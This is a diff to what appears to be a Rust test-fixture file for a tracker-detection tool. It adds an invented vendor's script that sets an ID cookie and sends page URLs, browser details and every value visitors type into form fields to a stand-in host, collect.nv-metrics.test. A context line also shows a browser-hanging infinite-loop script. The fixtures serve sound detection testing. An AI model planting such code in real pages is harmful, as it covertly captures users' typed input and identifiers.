@@ -237,6 +237,34 @@ document.addEventListener('change', function (e) {
 }, true);
 </script>"#;
 
+/// A vendor no decoder, entity list or seed knows (`collect.nv-metrics.test`): what it
+/// receives can only be found by value. It sends the page URL without its scheme, encoded
+/// twice inside JSON, with only its slashes encoded, inside base64 JSON and split over two
+/// parameters; its own first-party ID cookie (plain, and a base64-JSON one whose `id` it
+/// sends); the title, screen size, language and User-Agent; and what the visitor types.
+pub const INVENTED: &str = r#"<script>
+(function () {
+  var T = 'https://collect.nv-metrics.test/v3/';
+  function cookie(n) { var m = document.cookie.match('(?:^|; )' + n + '=([^;]*)'); return m ? m[1] : null; }
+  var uid = cookie('_nvm_uid');
+  if (!uid) { uid = 'nv' + Math.random().toString(36).slice(2, 10) + Date.now(); document.cookie = '_nvm_uid=' + uid + '; path=/; max-age=31536000'; }
+  var sid = 's' + Math.random().toString(36).slice(2, 12) + '42';
+  document.cookie = '_nvm_s_' + location.hostname.split('.')[0] + '=' + btoa(JSON.stringify({id: sid, created: Date.now(), n: 1})) + '; path=/';
+  var q = 'pid=NV-4411&ev=view&u=' + encodeURIComponent(location.host + location.pathname) +
+    '&t=' + encodeURIComponent(document.title) + '&sr=' + screen.width + 'x' + screen.height +
+    '&lang=' + navigator.language + '&vid=' + uid;
+  new Image().src = T + 'b?' + q;
+  fetch(T + 'ctx', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'},
+    body: JSON.stringify({loc: encodeURIComponent(encodeURIComponent(location.href)), slashes: location.href.replace(/\//g, '%2F'), ua: navigator.userAgent, sid: sid})});
+  fetch(T + 'p?pid=NV-4411&d=' + encodeURIComponent(btoa(JSON.stringify({href: location.href, vid: uid}))), {mode: 'no-cors'});
+  fetch(T + 'split?pid=NV-4411&h=' + location.hostname + '&p=' + encodeURIComponent(location.pathname), {mode: 'no-cors'});
+  document.addEventListener('change', function (e) {
+    fetch(T + 'input?pid=NV-4411', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'},
+      body: JSON.stringify({f: e.target.name || e.target.id, v: e.target.value, vid: uid})});
+  }, true);
+})();
+</script>"#;
+
 const HOG: &str = r#"<script>window.addEventListener('load', function () { setTimeout(function () { for (;;) {} }, 300); });</script>"#;
 
 const HOSTILE: &str = r#"<script>
@@ -979,6 +1007,7 @@ pub const SITES: &[Site] = &[
     page("formula.test", 0, &[], false, false, hostile::FORMULA),
     // Workers, a WebSocket recorder, an EventSource and a ping (see super::channels).
     page("workers.test", 45, &[], true, false, super::channels::PAGE),
+    page("invented.test", 46, &[], true, false, INVENTED),
     page("www.redirect.test", 0, &[Tracker::Meta], false, false, ""),
     page("elsewhere.test", 0, &[Tracker::Ga4], false, false, ""),
 ];
@@ -1452,6 +1481,15 @@ pub const TRUTH: &[Expect] = &[
         "workers.test",
         "recorder-demo.test",
         &[],
+        true,
+        &["plain_email", "plain_phone", "typed_text"],
+    ),
+    // A vendor nothing knows: everything it receives is found by value (tests/values_e2e.rs
+    // checks every field); the generic reader gives its ID and event.
+    e(
+        "invented.test",
+        "nv-metrics.test",
+        &["NV-4411"],
         true,
         &["plain_email", "plain_phone", "typed_text"],
     ),
